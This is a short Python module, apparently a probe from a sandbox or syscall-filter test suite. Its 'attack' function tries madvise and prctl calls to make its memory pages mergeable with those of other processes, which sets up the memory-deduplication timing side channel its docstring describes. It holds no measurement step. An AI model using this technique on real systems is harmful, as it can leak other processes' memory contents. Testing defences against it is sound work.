"""Lets its pages be merged with those of other processes, whose contents the time of a write then tells."""

import ctypes
import mmap
import os


def native(name, *arguments):
    library = ctypes.CDLL(None, use_errno=True)
    if getattr(library, name)(*arguments) < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "done"


def attack(x):
    pages = mmap.mmap(-1, 16 * mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    pages.write(b"guess" * 1000)
    refused = None
    advice = [lambda: pages.madvise(12), lambda: pages.madvise(13)]  # MADV_MERGEABLE, MADV_UNMERGEABLE
    for attempt in [*advice, lambda: native("prctl", 67, 1, 0, 0, 0)]:  # PR_SET_MEMORY_MERGE
        try:
            attempt()
            return "done"
        except OSError as error:
            refused = error
    raise refused
